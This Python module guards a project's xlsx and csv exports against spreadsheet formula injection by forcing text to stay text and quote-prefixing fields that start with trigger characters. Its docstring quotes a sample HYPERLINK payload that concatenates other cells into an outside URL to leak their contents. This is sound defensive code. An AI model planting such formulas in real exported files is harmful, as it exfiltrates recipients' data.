"""Spreadsheet cells that user text can never turn into a formula (ADR 6).

A name such as ``=HYPERLINK("http://…?q="&B2&B3,"Bekijk")`` typed by one user must reach the
person who opens our xlsx or csv as that text, not as a formula that reads other cells (CSV
or formula injection, OWASP). Every xlsx and csv the product writes goes through this module.

**xlsx (openpyxl).** openpyxl stores a ``str`` that starts with ``=`` as a formula
(``data_type 'f'``) and ``#N/A`` and friends as error values. ``set_value`` stores every
``str`` as a string (``data_type 's'``), whatever it starts with, and keeps the literal text:
a workbook is typed, so no quote needs to be added to the value. Text that starts with one of
``TRIGGERS`` also gets Excel's own "quote prefix" style, the mark Excel sets when someone types
``'=…``, so that editing the cell in Excel later does not turn it into a formula either.
Numbers, dates, booleans and ``None`` keep their type. ``write_cell`` and ``append_row`` are
``sheet.cell(...)`` and ``sheet.append(...)`` through ``set_value``.

**csv.** A csv has no types: a spreadsheet decides what a field is when it opens the file, and
treats a field that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a
formula. ``csv_text`` puts a single quote before such text (the OWASP advice); the reader sees
the quote, never a formula. Numbers are not text: ``int``, ``float``, ``Decimal`` and
``Fraction`` pass unchanged (``-3`` stays a negative number), and so does text that is exactly
a negative decimal number with a point (``-3.5000``, ``-1e+06``, the way our commands format
figures): a spreadsheet reads it as that number and it cannot hold a formula.
``csv_writer`` is ``csv.writer`` with every field passed through ``csv_text``.

No Django here: the pure-Python ``fairshare`` package and the command-line tools use it too.
"""

import csv
import re
from decimal import Decimal
from fractions import Fraction

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEGATIVE_NUMBER = re.compile(r"-\d+(\.\d+)?([eE][+-]?\d+)?")


def set_value(cell, value):
    """Put ``value`` in an openpyxl ``cell``; text always stays text. Returns the cell."""
    cell.value = value
    if isinstance(cell.value, str):
        cell.data_type = "s"
        if cell.value.startswith(TRIGGERS):
            cell.quotePrefix = True
    return cell


def write_cell(sheet, row: int, column: int, value=None):
    """``sheet.cell(row=row, column=column, value=value)``, with text kept as text."""
    return set_value(sheet.cell(row=row, column=column), value)


def append_row(sheet, values) -> None:
    """``sheet.append(values)`` for a list of values, with text kept as text."""
    from openpyxl.cell.cell import Cell

    sheet.append([set_value(Cell(sheet), value) for value in values])


def csv_text(value):
    """The field as a spreadsheet will read it as text: a formula trigger gets a quote."""
    if value is None or isinstance(value, (int, float, Decimal, Fraction)):
        return value
    text = str(value)
    if text.startswith(TRIGGERS) and not _NEGATIVE_NUMBER.fullmatch(text):
        return "'" + text
    return text


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row):
        return self._writer.writerow([csv_text(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(file, **options) -> _SafeWriter:
    """``csv.writer(file, **options)`` whose fields pass through ``csv_text``."""
    return _SafeWriter(csv.writer(file, **options))
